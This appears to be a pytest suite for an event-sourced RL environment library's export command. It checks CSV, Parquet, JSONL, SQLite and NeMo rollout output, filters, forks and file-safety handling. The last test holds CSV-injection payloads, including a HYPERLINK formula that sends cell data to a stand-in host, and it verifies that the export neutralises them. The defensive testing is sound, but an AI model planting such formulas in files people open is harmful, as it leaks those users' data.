"""Exports read back with independent readers (json, csv, pyarrow, sqlite3) and compared with the log."""

from __future__ import annotations

import asyncio
import csv
import hashlib
import itertools
import json
import os
import sqlite3
import stat
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import orjson
import pyarrow.parquet as pq
import pytest
from aiohttp.test_utils import TestClient

from environments.counter import env as counter_env
from eventsourced_env import (
    Args,
    ConfigError,
    Context,
    Environment,
    Sessions,
    SqliteStore,
    State,
    Task,
    VerifyResult,
)
from eventsourced_env.cli import main
from eventsourced_env.conformance import trajectory_response
from eventsourced_env.errors import EnvError
from eventsourced_env.events import first_broken_link
from eventsourced_env.export import EVENT_COLUMNS, SESSION_COLUMNS, export
from eventsourced_env.metrics import aggregate_metrics
from eventsourced_env.snapshot import Filters, Snapshot, parse_time
from eventsourced_env.stats import stats
from tests.conftest import row
from tests.logs import build_fixed_log, lifted, read_log
from tests.test_server import Agent


class NoArgs(Args):
    """No arguments."""


def noop(state: State, args: NoArgs, ctx: Context) -> tuple[State, Any]:
    """Do nothing."""
    return state, None


@pytest.fixture
def fixed(db_path: Path) -> tuple[Path, dict[str, str]]:
    return db_path, build_fixed_log(db_path)


# What the fixed log's sessions.* must say, by name (see build_fixed_log).
EXPECTED_SESSIONS = {
    "s1": {"task_index": 0, "rollout_index": 0, "status": "verified", "events": 3, "calls": 1, "rejected": 0,
           "reward": 1.0, "created_at": 100.0, "updated_at": 103.0, "verified_at": 103.0},
    "s2": {"task_index": 0, "rollout_index": 1, "status": "verified", "events": 3, "calls": 1, "rejected": 0,
           "reward": 0.0, "created_at": 200.0, "updated_at": 203.0, "verified_at": 203.0},
    "s3": {"task_index": 0, "rollout_index": 2, "status": "closed", "events": 5, "calls": 1, "rejected": 1,
           "reward": 0.0, "created_at": 300.0, "updated_at": 306.0, "verified_at": 305.0},
    "s4": {"task_index": 1, "rollout_index": 0, "status": "verified", "events": 4, "calls": 2, "rejected": 0,
           "reward": 1.0, "created_at": 400.0, "updated_at": 402.0, "verified_at": 402.0},
    "s5": {"task_index": 1, "rollout_index": 1, "status": "verified", "events": 3, "calls": 1, "rejected": 0,
           "reward": 0.0, "created_at": 500.0, "updated_at": 505.0, "verified_at": 505.0},
    "s6": {"task_index": 2, "rollout_index": 0, "status": "open", "events": 2, "calls": 0, "rejected": 1,
           "reward": None, "created_at": 600.0, "updated_at": 602.0, "verified_at": None},
}  # fmt: skip


def check_sessions_table(rows: list[dict[str, Any]], ids: dict[str, str], db: Path) -> None:
    """`rows` (parsed) are the fixed log's sessions, oldest first, with the expected figures."""
    names = {v: k for k, v in ids.items()}
    assert [names[r["session"]] for r in rows] == list(EXPECTED_SESSIONS)
    logs = read_log(db)
    for r in rows:
        expected = EXPECTED_SESSIONS[names[r["session"]]]
        assert {k: r[k] for k in expected} == expected, names[r["session"]]
        seeded = logs[r["session"]][1][0]
        assert (r["env"], r["env_version"], r["seed"]) == ("counter", "1", seeded.data["seed"])
        assert r["parent"] is None
        verified = expected["reward"] is not None
        assert r["verifier_version"] == (counter_env.verifier_version if verified else None)
        assert r["reward_components"] == ({} if verified else None)


def check_events_table(rows: list[dict[str, Any]], db: Path) -> None:
    """`rows` (parsed) are every event of the log, in order, and rebuild each event's data."""
    logs = read_log(db)
    expected = [(s, e) for s, (_, events) in logs.items() for e in events]
    assert len(rows) == len(expected)
    for r, (session, event) in zip(rows, expected, strict=True):
        assert (r["session"], r["seq"], r["kind"], r["at"]) == (session, event.seq, event.kind, event.at)
        assert (r["prev"] or "", r["hash"]) == (event.prev, event.hash)  # CSV: "" reads as missing
        assert lifted(r) == event.data


def parse_csv(path: Path, columns: tuple[tuple[str, str], ...]) -> list[dict[str, Any]]:
    parse = {"str": str, "int": int, "float": float, "json": json.loads}
    with path.open(newline="", encoding="utf-8") as f:
        reader = csv.DictReader(f)
        assert reader.fieldnames == [name for name, _ in columns]
        return [
            {name: None if r[name] == "" else parse[kind](r[name]) for name, kind in columns} for r in reader
        ]


def test_csv_round_trips(fixed: tuple[Path, dict[str, str]], tmp_path: Path) -> None:
    db, ids = fixed
    assert main(["export", "--db", str(db), "--format", "csv", "--out", str(tmp_path / "out")]) == 0
    check_sessions_table(parse_csv(tmp_path / "out" / "sessions.csv", SESSION_COLUMNS), ids, db)
    check_events_table(parse_csv(tmp_path / "out" / "events.csv", EVENT_COLUMNS), db)


def test_parquet_round_trips_typed(fixed: tuple[Path, dict[str, str]], tmp_path: Path) -> None:
    db, ids = fixed
    export(db, "parquet", tmp_path / "out")
    sessions = pq.read_table(tmp_path / "out" / "sessions.parquet")
    events = pq.read_table(tmp_path / "out" / "events.parquet")
    types = {"str": "string", "int": "int64", "float": "double", "json": "string"}
    for table, columns in ((sessions, SESSION_COLUMNS), (events, EVENT_COLUMNS)):
        assert [(f.name, str(f.type)) for f in table.schema] == [(n, types[k]) for n, k in columns]

    def parsed(table: Any, columns: tuple[tuple[str, str], ...]) -> list[dict[str, Any]]:
        json_columns = [name for name, kind in columns if kind == "json"]
        rows: list[dict[str, Any]] = table.to_pylist()
        for r in rows:
            r.update({k: None if r[k] is None else json.loads(r[k]) for k in json_columns})
        return rows

    check_sessions_table(parsed(sessions, SESSION_COLUMNS), ids, db)
    check_events_table(parsed(events, EVENT_COLUMNS), db)


def test_jsonl_round_trips_and_every_line_proves_its_hash(
    fixed: tuple[Path, dict[str, str]], tmp_path: Path
) -> None:
    db, _ = fixed
    result = export(db, "jsonl", tmp_path / "events.jsonl")
    assert (result.sessions, result.events) == (6, 20)
    lines = [json.loads(line) for line in (tmp_path / "events.jsonl").read_text().splitlines()]
    logs = read_log(db)
    expected = [(s, env, e) for s, (env, events) in logs.items() for e in events]
    assert len(lines) == len(expected)
    for line, (session, env, event) in zip(lines, expected, strict=True):
        assert line == {"session": session, "env": env, "tool": event.data.get("tool"), **event.to_json()}
        envelope = {k: line[k] for k in ("seq", "kind", "at", "prev", "data")}
        assert hashlib.sha256(orjson.dumps(envelope)).hexdigest() == line["hash"]


def test_sqlite_copy_is_a_log_with_intact_chains(fixed: tuple[Path, dict[str, str]], tmp_path: Path) -> None:
    db, ids = fixed
    copy = tmp_path / "copy.db"
    assert main(["export", "--db", str(db), "--format", "sqlite", "--out", str(copy), "--verified-only"]) == 0
    original = sqlite3.connect(db)
    copied = sqlite3.connect(copy)
    query = "SELECT session, seq, kind, at, hash, body FROM events ORDER BY session, seq"
    kept = {ids[name] for name in ("s1", "s2", "s3", "s4", "s5")}
    assert copied.execute(query).fetchall() == [r for r in original.execute(query) if r[0] in kept]
    query = "SELECT id, env, created_at FROM sessions ORDER BY id"
    assert copied.execute(query).fetchall() == [r for r in original.execute(query) if r[0] in kept]
    original.close()
    copied.close()

    async def check() -> None:
        store = SqliteStore(copy)
        try:
            infos = await store.sessions()
            assert {i.id for i in infos} == kept
            for info in infos:
                events = await store.read(info.id)
                assert first_broken_link(events) is None
                assert len(events) == info.last_seq
        finally:
            await store.close()

    asyncio.run(check())
    assert stats(copy)["envs"]["counter"]["pass_at_k"] == stats(db)["envs"]["counter"]["pass_at_k"]


def test_nemo_rollouts_are_the_row_response_and_reward(
    fixed: tuple[Path, dict[str, str]], tmp_path: Path
) -> None:
    db, ids = fixed
    export(db, "nemo-rollouts", tmp_path / "rollouts.jsonl")
    lines = [json.loads(line) for line in (tmp_path / "rollouts.jsonl").read_text().splitlines()]
    logs = read_log(db)
    expected = []
    for name in ("s1", "s2", "s3", "s4", "s5"):
        events = logs[ids[name]][1]
        verified = [e for e in events if e.kind == "verified"][-1]
        expected.append(
            {
                "session_seed": events[0].data["seed"],
                **events[0].data["row"],
                "response": verified.data["response"],
                "reward": verified.data["reward"],
            }
        )
    assert lines == expected
    assert [line["response"]["id"] for line in lines] == ["r1", "r2", "r3", "r4", "r5"]
    # The rollouts feed NeMo Gym's metrics: pass@k there equals esenv stats'.
    metrics = aggregate_metrics(lines)["agent_metrics"]
    by_k = {f"pass@{p['k']}/reward": p["value"] for p in stats(db)["envs"]["counter"]["pass_at_k"]}
    assert {k: v for k, v in metrics.items() if k.startswith("pass@")} == by_k


def test_a_nemo_rollouts_export_counts_the_rollouts_it_wrote(
    fixed: tuple[Path, dict[str, str]], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # It said "exported 6 session(s), 20 event(s)" for 5 lines: the unverified session was counted.
    db, _ = fixed
    out = tmp_path / "rollouts.jsonl"
    assert main(["export", "--db", str(db), "--format", "nemo-rollouts", "--out", str(out)]) == 0
    assert len(out.read_text().splitlines()) == 5
    assert "exported 5 session(s), 18 event(s) as nemo-rollouts" in capsys.readouterr().err
    result = export(db, "nemo-rollouts", tmp_path / "open.jsonl", Filters(status="open"))
    assert (result.sessions, result.events) == (0, 0)
    assert (tmp_path / "open.jsonl").read_text() == ""


def test_reward_components_go_with_the_rollout(db_path: Path, tmp_path: Path) -> None:
    env: Environment[Any, Any] = Environment("parts", version="1", task=Task)
    env.initial(lambda task, ctx: State())
    env.tool(noop)
    env.verifier(lambda state, task, response: VerifyResult(reward=0.5, components={"a": 0.25}))

    async def make() -> None:
        store = SqliteStore(db_path)
        sessions = Sessions(env, store)
        await sessions.verify(await sessions.seed({"q": 1}), {"output": []})
        await store.close()

    asyncio.run(make())
    export(db_path, "nemo-rollouts", tmp_path / "r.jsonl")
    line = json.loads((tmp_path / "r.jsonl").read_text())
    seed = line.pop("session_seed")
    assert isinstance(seed, int)
    assert line == {"q": 1, "response": {"output": []}, "reward": 0.5, "reward_components": {"a": 0.25}}


@pytest.mark.parametrize(
    ("args", "names"),
    [
        (["--status", "open"], ["s6"]),
        (["--status", "closed"], ["s3"]),
        (["--status", "verified"], ["s1", "s2", "s4", "s5"]),
        (["--verified-only"], ["s1", "s2", "s3", "s4", "s5"]),
        (["--verified-only", "--status", "closed"], ["s3"]),
        (["--session", "s5", "--session", "s1"], ["s1", "s5"]),
        (["--since", "1970-01-01T00:03:20", "--until", "1970-01-01T00:05:00Z"], ["s2"]),
        (["--since", "1970-01-01 00:06:40+00:00"], ["s4", "s5", "s6"]),
        (["--env", "counter", "--until", "1970-01-02"], ["s1", "s2", "s3", "s4", "s5", "s6"]),
        (["--env", "other"], []),
    ],
)
def test_filters(
    fixed: tuple[Path, dict[str, str]], tmp_path: Path, args: list[str], names: list[str]
) -> None:
    db, ids = fixed
    args = [ids.get(a, a) for a in args]
    out = tmp_path / "out.jsonl"
    assert main(["export", "--db", str(db), "--format", "jsonl", "--out", str(out), *args]) == 0
    sessions = [json.loads(line)["session"] for line in out.read_text().splitlines()]
    assert list(dict.fromkeys(sessions)) == [ids[n] for n in names]


def test_times_parse_as_utc() -> None:
    assert parse_time("1970-01-02") == 86400.0
    assert parse_time("1970-01-01T01:00:00+01:00") == 0.0
    assert parse_time("1970-01-01T00:00:01.5Z") == 1.5
    with pytest.raises(ConfigError, match="not an ISO date"):
        parse_time("yesterday")
    with pytest.raises(ConfigError, match="status must be one of"):
        Filters(status="done")


def test_a_bad_time_or_format_is_a_usage_error(
    fixed: tuple[Path, dict[str, str]], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db, _ = fixed
    out = str(tmp_path / "x")
    assert main(["export", "--db", str(db), "--format", "jsonl", "--out", out, "--since", "soon"]) == 2
    assert "not an ISO date or datetime" in capsys.readouterr().err
    assert main(["export", "--db", str(db), "--format", "xml", "--out", out]) == 2
    assert "'xml' is not one of" in capsys.readouterr().err
    assert not (tmp_path / "x").exists()
    # A session named that the log does not have: a typo, not an empty export.
    for fmt in ("jsonl", "csv"):
        assert main(["export", "--db", str(db), "--format", fmt, "--out", out, "--session", "typo"]) == 2
        assert capsys.readouterr().err == f"Error: no session 'typo' in the event log {str(db)!r}\n"
        assert not (tmp_path / "x").exists() and not list(tmp_path.glob(".x*"))


def test_existing_outputs_need_force_and_paths_are_checked(
    fixed: tuple[Path, dict[str, str]], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db, _ = fixed

    def run(fmt: str, out: Path, *more: str) -> str:
        code = main(["export", "--db", str(db), "--format", fmt, "--out", str(out), *more])
        err = capsys.readouterr().err
        return "ok" if code == 0 else f"{code}: {err}"

    target = tmp_path / "events.jsonl"
    target.write_text("keep me\n")
    assert "exists; pass --force to write over it" in run("jsonl", target)
    assert target.read_text() == "keep me\n"
    assert run("jsonl", target, "--force") == "ok"
    assert len(target.read_text().splitlines()) == 20

    folder = tmp_path / "tables"
    assert run("csv", folder) == "ok"
    assert "sessions.csv' exists; pass --force" in run("csv", folder)
    assert run("csv", folder, "--force") == "ok"
    assert "csv writes a folder" in run("csv", target, "--force")
    assert "parquet writes a folder" in run("parquet", target)
    assert "jsonl writes one file, but" in run("jsonl", folder, "--force")
    assert "does not exist" in run("sqlite", tmp_path / "missing" / "copy.db")
    assert "does not exist" in run("parquet", tmp_path / "missing" / "tables")
    assert "is the event log being exported" in run("sqlite", db, "--force")
    assert "no event log at" in run("jsonl", tmp_path / "a.jsonl", "--db", str(tmp_path / "none.db"))
    not_a_log = tmp_path / "notes.txt"
    not_a_log.write_text("hello")
    assert "is not an event log" in run("jsonl", tmp_path / "b.jsonl", "--db", str(not_a_log))
    # No temporary file is left behind, and nothing was created for the failed exports.
    left = sorted(p.name for p in tmp_path.iterdir() if not p.name.endswith(("-wal", "-shm")))
    assert left == ["events.jsonl", "log.db", "notes.txt", "tables"]
    assert sorted(p.name for p in folder.iterdir()) == ["events.csv", "sessions.csv"]


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "save-replay"])
def test_an_output_that_is_a_device_or_a_pipe_is_refused_and_left_as_it_was(
    fixed: tuple[Path, dict[str, str]], tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str
) -> None:
    # `--out /dev/stdout --force` (to pipe an export on) renamed the export over /dev/stdout: nothing
    # went down the pipe, the command said it had exported, and (as root) /dev/stdout was a file after.
    # A FIFO and a symlink to it stand in for the device.
    db, names = fixed
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    link = tmp_path / "stdout"
    link.symlink_to(fifo)
    out = link if fmt != "csv" else tmp_path / "tables"
    if fmt == "csv":
        out.mkdir()
        (out / "events.csv").symlink_to(fifo)
    for force in ([], ["--force"]):
        if fmt == "save-replay":
            argv = ["save-replay", names["s1"], "--db", str(db), "--out", str(out), *force]
        else:
            argv = ["export", "--db", str(db), "--format", fmt, "--out", str(out), *force]
        assert main(argv) == 2
        assert "is not a regular file" in capsys.readouterr().err
    assert link.is_symlink() and stat.S_ISFIFO(link.stat().st_mode)
    left = sorted(p.name for p in tmp_path.iterdir() if not p.name.startswith(db.name))
    assert left == sorted(["pipe", "stdout", *(["tables"] if fmt == "csv" else [])])
    if fmt == "csv":  # no file written beside the pipe either
        assert sorted(p.name for p in out.iterdir()) == ["events.csv"]


def test_a_missing_pyarrow_is_a_clear_error(
    fixed: tuple[Path, dict[str, str]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:

    db, _ = fixed
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(ConfigError, match=r"pip install 'eventsourced-env\[parquet\]'"):
        export(db, "parquet", tmp_path / "out")
    assert not (tmp_path / "out").exists()


def test_ctrl_c_just_after_a_sqlite_batch_commits_exits_130_and_leaves_no_file(
    fixed: tuple[Path, dict[str, str]],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A Ctrl-C (or SIGTERM) that lands as a batch's COMMIT returns, before the next BEGIN, left no
    transaction open: closing the writer then failed ("cannot commit - no transaction is active"),
    a traceback and exit 1 in place of "Aborted!" and 130."""
    import eventsourced_env.export as export_module

    db, _ = fixed

    class Interrupted:
        def __init__(self, conn: sqlite3.Connection) -> None:
            self._conn = conn

        def execute(self, sql: str, *args: Any) -> sqlite3.Cursor:
            cursor = self._conn.execute(sql, *args)
            if sql == "COMMIT" and self._conn.total_changes:  # a batch went in: the signal lands now
                raise KeyboardInterrupt
            return cursor

        def __getattr__(self, name: str) -> Any:
            return getattr(self._conn, name)

    class Writer(export_module._SqliteWriter):
        def __init__(self, path: Path) -> None:
            super().__init__(path)
            self._conn = Interrupted(self._conn)  # type: ignore[assignment]

    monkeypatch.setattr(export_module, "_BATCH", 1)
    monkeypatch.setattr(export_module, "_SqliteWriter", Writer)
    out = tmp_path / "copy.db"
    assert main(["export", "--db", str(db), "--format", "sqlite", "--out", str(out)]) == 130
    assert "Aborted!" in capsys.readouterr().err
    assert sorted(p.name for p in tmp_path.iterdir() if not p.name.startswith("log.db")) == []


class _Paced:
    """A progress sink that, after each session read, waits until the writer has appended again."""

    def __init__(self, appended: Iterator[int], total: int) -> None:
        self.total = total
        self.read = 0
        self._appended = appended

    def __enter__(self) -> _Paced:
        return self

    def __exit__(self, *exc: object) -> None:
        return None

    def update(self, n_steps: int) -> None:
        self.read += n_steps
        next(self._appended)


def test_an_export_is_one_snapshot_while_a_server_keeps_writing(db_path: Path, tmp_path: Path) -> None:
    """Every event committed before the newest exported one is exported, and nothing after it."""
    stop = threading.Event()
    appended = threading.Semaphore(0)
    loop = asyncio.new_event_loop()
    ticks = itertools.count(1000.0)  # one writer awaiting each append: commit order is time order

    async def write(sessions: Sessions, ids: list[str]) -> None:
        for i in itertools.count():
            if stop.is_set():
                return
            if i % 3 == 0:
                ids.append(await sessions.seed(row(expected=1)))
            else:
                await sessions.call(ids[i % len(ids)], "increment_counter", {"count": 1})
            appended.release()

    async def serve() -> None:
        store = SqliteStore(db_path, synchronous="NORMAL")
        sessions = Sessions(counter_env, store, clock=lambda: next(ticks))
        ids = [await sessions.seed(row(expected=1)) for _ in range(20)]
        started.set()
        try:
            await write(sessions, ids)
        finally:
            await store.close()

    started = threading.Event()
    writer = threading.Thread(target=lambda: loop.run_until_complete(serve()))
    writer.start()
    try:
        assert started.wait(10)

        def wait_for_appends() -> Iterator[int]:
            while True:
                for _ in range(3):  # at least one of any three appends seeds a new session
                    assert appended.acquire(timeout=10), "the writer stopped"
                yield 0

        bars: list[_Paced] = []

        def progress(total: int) -> _Paced:
            # Between counting the sessions and reading them, the writer appends (and seeds) again.
            appends = wait_for_appends()
            next(appends)
            bars.append(_Paced(appends, total))
            return bars[-1]

        result = export(db_path, "jsonl", tmp_path / "live.jsonl", progress=progress)
    finally:
        stop.set()
        writer.join(30)
        loop.close()
    assert bars[0].total == bars[0].read == result.sessions >= 20
    lines = [json.loads(line) for line in (tmp_path / "live.jsonl").read_text().splitlines()]
    exported = {(line["session"], line["seq"]) for line in lines}
    newest = max(line["at"] for line in lines)
    logs = read_log(db_path)
    committed_by_then = {(s, e.seq) for s, (_, events) in logs.items() for e in events if e.at <= newest}
    assert exported == committed_by_then
    assert len(committed_by_then) < sum(len(events) for _, events in logs.values())


def test_the_progress_bar_shows_on_a_terminal_only(
    fixed: tuple[Path, dict[str, str]],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    db, _ = fixed
    args = ["export", "--db", str(db), "--format", "jsonl", "--out", str(tmp_path / "e.jsonl"), "--force"]
    assert main(args) == 0
    err = capsys.readouterr().err
    assert err.startswith("exported 6 session(s), 20 event(s) as jsonl to") and "exporting" not in err
    monkeypatch.setattr(sys.stderr, "isatty", lambda: True)
    assert main(args) == 0
    assert "exporting" in capsys.readouterr().err


async def test_nemo_rollouts_rescore_the_same_through_a_stateless_verify(
    client: TestClient[Any, Any], db_path: Path, tmp_path: Path
) -> None:
    """The issue's bar: a counter run's rollouts export, re-scored by `/verify` without a session."""
    plans = [([1, 2], 3), ([1, 1], 3), ([5, "x", -1], 4), ([2], 7)]  # rewards 1, 0, 1, 0
    live = []
    for index, (increments, expected) in enumerate(plans):
        agent = Agent(client)
        base = row(expected=expected, _ng_task_index=index % 2, _ng_rollout_index=index // 2)
        await agent.post("/seed_session", base)
        seen = []
        for n in increments:
            _, observation, _ = await agent.post("/increment_counter", {"count": n})
            seen.append(("increment_counter", {"count": n}, observation))
        _, reply, _ = await agent.post("/verify", {**base, "response": trajectory_response(seen)})
        live.append(reply["reward"])
    assert live == [1.0, 0.0, 1.0, 0.0]

    export(db_path, "nemo-rollouts", tmp_path / "rollouts.jsonl")  # while the server has the log open
    lines = [json.loads(line) for line in (tmp_path / "rollouts.jsonl").read_text().splitlines()]
    assert [line["reward"] for line in lines] == live
    for line in lines:
        resp = await client.post(
            "/verify", data=orjson.dumps({k: v for k, v in line.items() if k != "reward"})
        )
        reply = await resp.json()
        assert reply["stateless_replay"]["clean"] is True
        assert reply["reward"] == line["reward"]


def test_a_nemo_rollouts_export_warns_of_forks_sharing_their_parents_indexes(
    db_path: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # A fork keeps its parent's row, so its line has the parent's (_ng_task_index, _ng_rollout_index).
    # NeMo Gym 0.4.0 keys rollouts by that pair: RewardProfiler._index_by_rollout_key
    # (nemo_gym/reward_profile.py), which compute_aggregate_metrics and `gym eval profile` use,
    # raises "Duplicate ... row for rollout key (0, 0)". The export said nothing of it.
    async def make() -> None:
        store = SqliteStore(db_path)
        sessions = Sessions(counter_env, store)
        parent = await sessions.seed(row(expected=1, _ng_task_index=0, _ng_rollout_index=0))
        await sessions.call(parent, "increment_counter", {"count": 1})
        await sessions.verify(parent, {"output": []})
        [child] = await sessions.fork(parent, at=1)
        await sessions.verify(child, {"output": []})
        await store.close()

    asyncio.run(make())
    out = tmp_path / "rollouts.jsonl"
    assert main(["export", "--db", str(db_path), "--format", "nemo-rollouts", "--out", str(out)]) == 0
    lines = [json.loads(line) for line in out.read_text().splitlines()]
    assert [(line["_ng_task_index"], line["_ng_rollout_index"]) for line in lines] == [(0, 0), (0, 0)]
    assert "warning: 1 of the rollouts are forks" in capsys.readouterr().err
    assert export(db_path, "nemo-rollouts", tmp_path / "r.jsonl").forks == 1


def test_a_fork_names_its_parent(db_path: Path, tmp_path: Path) -> None:
    async def make() -> tuple[str, str, str]:
        store = SqliteStore(db_path)
        sessions = Sessions(counter_env, store)
        parent = await sessions.seed(row(expected=2))
        await sessions.call(parent, "increment_counter", {"count": 1})
        [child] = await sessions.fork(parent, at=2)
        await sessions.call(child, "increment_counter", {"count": 1})
        [grandchild] = await sessions.fork(child)
        await store.close()
        return parent, child, grandchild

    parent, child, grandchild = asyncio.run(make())
    export(db_path, "csv", tmp_path / "out")
    rows = parse_csv(tmp_path / "out" / "sessions.csv", SESSION_COLUMNS)
    assert {r["session"]: r["parent"] for r in rows} == {parent: None, child: parent, grandchild: child}
    assert {r["session"]: r["calls"] for r in rows} == {parent: 1, child: 2, grandchild: 2}


def test_a_fork_is_created_when_it_is_forked_not_when_its_parent_was(db_path: Path, tmp_path: Path) -> None:
    now = [100.0]

    async def make() -> tuple[str, str, str]:
        store = SqliteStore(db_path)
        sessions = Sessions(counter_env, store, clock=lambda: now[0])
        parent = await sessions.seed(row(expected=2))
        await sessions.call(parent, "increment_counter", {"count": 1})
        now[0] = 500.0  # forked much later
        [child] = await sessions.fork(parent)
        now[0] = 900.0  # and a fork of the fork, whose copied log holds the child's forked event
        [grandchild] = await sessions.fork(child)
        await store.close()
        return parent, child, grandchild

    parent, child, grandchild = asyncio.run(make())
    with Snapshot(db_path) as view:
        created = {i.id: i.created_at for i in view.infos()}
        assert created == {parent: 100.0, child: 500.0, grandchild: 900.0}
        assert view.ids(Filters(since=200.0)) == [child, grandchild]
        assert view.ids(Filters(until=200.0)) == [parent]
    out = tmp_path / "late.jsonl"
    assert (
        main(
            [
                "export",
                "--db",
                str(db_path),
                "--format",
                "jsonl",
                "--out",
                str(out),
                "--since",
                "1970-01-01T00:05:00",
            ]
        )
        == 0
    )
    assert {json.loads(line)["session"] for line in out.read_text().splitlines()} == {child, grandchild}


def test_a_csv_cell_a_model_wrote_never_starts_a_spreadsheet_formula(db_path: Path, tmp_path: Path) -> None:
    """The model names its calls: one to `/=HYPERLINK(...)` was recorded (a tool_rejected event) and
    exported into events.csv as it was, a formula a spreadsheet opening the file would run (CSV
    injection). A text cell starting with = + - @ or a tab or carriage return is now prefixed with
    a quote (OWASP's advice); a tool's own name never starts so, and JSON cells never start a formula."""
    names = ['=HYPERLINK("http://x/?"&A1)', "+1+1", "-1+1", "@SUM(1)", "\tx", "\rx"]

    async def make() -> str:
        store = SqliteStore(db_path)
        sessions = Sessions(counter_env, store)
        session = await sessions.seed(row(expected=2))
        for name in names:
            with pytest.raises(EnvError):
                await sessions.call(session, name, {})
        await sessions.call(session, "increment_counter", {"count": -1})
        await store.close()
        return session

    asyncio.run(make())
    export(db_path, "csv", tmp_path / "out")
    with (tmp_path / "out" / "events.csv").open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [r["tool"] for r in rows[1:]] == [*("'" + name for name in names), "increment_counter"]
    for r in rows:
        assert not any(cell[:1] in ("=", "+", "@", "\t", "\r") for cell in r.values()), r
    assert rows[-1]["args"] == '{"count":-1}'
